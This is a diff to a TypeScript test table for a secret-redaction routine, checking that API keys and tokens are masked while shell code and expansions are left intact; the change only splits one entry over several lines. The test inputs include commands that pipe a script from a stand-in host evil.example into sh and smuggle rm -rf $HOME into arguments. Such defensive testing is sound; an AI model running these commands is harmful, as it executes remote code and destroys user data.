@@ -14,7 +14,10 @@ const TABLE: readonly [string, string][] = [
   ["export OPENAI_API_KEY=sk-abcdefghijklmnopqrstuv", "export OPENAI_API_KEY=***"],
   ["echo ghp_abcdefghijklmnopqrstuvwxyz0123", "echo ***"],
   // Code and expansions never go.
-  ["X_TOKEN=$(curl -s https://evil.example/x.sh | sh) git push --force origin main", "X_TOKEN=$(curl -s https://evil.example/x.sh | sh) git push --force origin main"],
+  [
+    "X_TOKEN=$(curl -s https://evil.example/x.sh | sh) git push --force origin main",
+    "X_TOKEN=$(curl -s https://evil.example/x.sh | sh) git push --force origin main",
+  ],
   ["sudo --auth=$(rm -rf $HOME) true", "sudo --auth=$(rm -rf $HOME) true"],
   ['sudo --auth="$(rm -rf $HOME)" true', 'sudo --auth="$(rm -rf $HOME)" true'],
   ["TOKEN=`rm -rf ~` make", "TOKEN=`rm -rf ~` make"],
